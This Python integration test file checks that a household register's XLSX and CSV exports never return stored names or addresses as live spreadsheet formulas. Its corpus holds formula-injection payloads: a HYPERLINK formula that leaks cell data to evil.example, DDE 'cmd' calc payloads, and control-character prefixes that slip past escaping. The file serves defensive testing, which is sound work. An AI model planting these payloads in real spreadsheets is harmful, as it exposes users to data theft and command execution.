"""Proves: no stored text comes back from a register export as a live spreadsheet formula.

Names and addresses from the hostile-text corpus (tests/integration/test_hostile_text.py), and formulas behind
every control or invisible character, are stored as old data or another channel could have stored them (written
to the database directly: the API now refuses control characters, see the last test), then exported as XLSX and
CSV, masked and in full. No XLSX cell is a formula (`data_type == "f"`) and no cell of either starts with
= + - @ tab or carriage return. Before the fix, "\\x01=HYPERLINK(...)" passed the escaping (its first character was
not a trigger), then the XLSX writer dropped the \\x01 and the cell became a live HYPERLINK formula.
"""
import csv
import io

from openpyxl import load_workbook

from services.households.models import Household
from tests.integration.households.test_households_import import GRID, app, config, rows_for, sheet, upload, web, worker  # noqa: F401
from tests.integration.test_hostile_text import CONTROL
from tests.support.data import household

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A2,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "=1+1")
HIDDEN = ("", "\x00", "\x01", "\x07", "\x0b", "\x1b", "\x1f", "\x7f", "\x85", "\x9f", "\u200b", "\u202e", "\ufeff",
          "\x01\u202e\t", CONTROL)
CORPUS = [hidden + formula for hidden in HIDDEN for formula in FORMULAS] + [CONTROL, CONTROL + "=1"]


def store_hostile(web, worker) -> int:
    """One household per corpus entry, the entry as its building, head's name and phone-less spouse's name."""
    collection = Household._get_collection()
    for n, text in enumerate(CORPUS):
        body = household(GRID, 500 + n)
        r = web.post("/households", json=body, headers=worker)
        assert r.status_code == 201, r.json
        collection.update_one({"_id": Household.objects.get(pk=r.json["id"]).pk},
                              {"$set": {"address.building": text, "residents.0.name": text}})
    return len(CORPUS)


def unescaped(value) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS)


def test_hostile_names_never_come_back_as_formulas(web, worker):
    stored = store_hostile(web, worker)
    exports = {"masked": lambda fmt: web.get(f"/grids/{GRID}/export?format={fmt}", headers=worker),
               "full": lambda fmt: web.post(f"/grids/{GRID}/export", json={"format": fmt, "reason": "安全测试"},
                                            headers=worker)}
    checked = 0
    for kind, export in exports.items():
        r = export("xlsx")
        assert r.status_code == 200 and r.headers["X-Households"] == str(stored)
        book = load_workbook(io.BytesIO(r.data))
        cells = [c for row in book.active.iter_rows() for c in row]
        formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
        assert not formulas, (kind, formulas[:5])
        assert not [c.value for c in cells if unescaped(c.value)], kind
        assert sum(1 for c in cells if isinstance(c.value, str) and c.value.startswith("'")) >= 2 * stored - 4
        checked += len(cells)

        r = export("csv")
        assert r.status_code == 200
        rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
        assert len(rows) > stored
        fields = [v for row in rows for v in row]
        assert not [v for v in fields if unescaped(v)], kind
        assert not [v for v in fields if any(ord(ch) < 32 or 0x7f <= ord(ch) <= 0x9f for ch in v)], kind
        checked += len(fields)
    print(f"\n[export formulas] {len(CORPUS)} hostile names and addresses, {checked} exported cells (XLSX and CSV, "
          f"masked and full): no formula, no unescaped = + - @ tab or CR")


def test_an_escaped_export_imports_again_as_the_same_text(web, worker):
    """The escape is the import's own: a leading ' before = + - @ is taken off again on the way back in."""
    assert upload(web, worker, sheet(rows_for(3))).status_code == 201
    Household._get_collection().update_many({}, {"$set": {"address.unit": "-1单元"}})
    full = web.post(f"/grids/{GRID}/export", json={"format": "xlsx", "reason": "迁移"}, headers=worker).data
    assert load_workbook(io.BytesIO(full)).active["B2"].value == "'-1单元"
    r = upload(web, worker, full, grid="C1-G2", name="x.xlsx")
    assert r.status_code == 201, r.json
    assert {h.address.unit for h in Household.objects(grid_id="C1-G2")} == {"-1单元"}


def test_the_api_refuses_names_with_control_characters(web, worker):
    for text in ("\x01=HYPERLINK(\"http://evil\")", "张\x00三", "\u202e三张", CONTROL):
        body = household(GRID, 900)
        body["residents"][0]["name"] = text
        r = web.post("/households", json=body, headers=worker)
        assert r.status_code == 422, (text, r.json)
        assert list(r.json["fields"]) == ["residents.0.name"], r.json
    assert Household.objects.count() == 0
